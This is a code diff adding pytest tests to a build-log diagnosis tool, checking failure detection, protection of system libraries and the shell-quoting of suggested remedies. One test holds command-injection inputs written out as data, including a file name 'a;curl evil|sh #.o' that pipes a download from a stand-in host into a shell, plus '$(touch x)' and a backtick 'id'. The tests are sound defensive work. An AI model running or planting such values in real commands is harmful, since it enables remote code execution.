@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 import time
 from pathlib import Path
 
@@ -105,3 +106,33 @@ def test_a_long_log_is_read_in_little_time() -> None:
     found = diagnose(line * 50_000 + log("out-of-memory"))
     assert [each.line for each in found.causes] == [50_004]
     assert time.process_time() - begin < 3
+
+
+@pytest.mark.parametrize(
+    "log",
+    [
+        "Killed\n",
+        "RuntimeError: Missing build dependency: networkx\n",
+        "/usr/bin/ld: cannot find -lcudart\n",
+        "OSError: libnvinfer.so.8: file too short\n",
+        "make: *** [all] 错误 2\n",
+    ],
+)
+def test_a_log_of_nothing_but_errors_is_never_of_a_build_that_did_not_fail(log: str) -> None:
+    assert diagnose(log).failed
+
+
+def test_a_library_of_the_system_is_never_to_be_removed() -> None:
+    for path in ("/usr/lib/x86_64-linux-gnu/libnvinfer.so.8", "libnvinfer.so.8"):
+        (cause,) = diagnose(f"OSError: {path}: file too short\n").causes
+        assert cause.remedy.startswith(f"ls -lL {path}   ")
+        assert cause.fix == ""
+
+
+def test_words_of_a_log_are_one_word_of_the_line_to_type() -> None:
+    name = "a;curl evil|sh #.o"
+    (cause,) = diagnose(f"/usr/bin/ld: error: '{name}'.cc:1:2: error: $(touch x)\n/x/`id`.cc:3: error: no\n").causes
+    assert shlex.split(cause.remedy.partition("   ")[0]) == ["$EDITOR", cause.words["place"]]
+    said = "fatal: detected dubious ownership in repository at '/w/$(touch x) y;z'\n"
+    (cause,) = diagnose(said).causes
+    assert shlex.split(cause.remedy)[-1] == "/w/$(touch x) y;z"
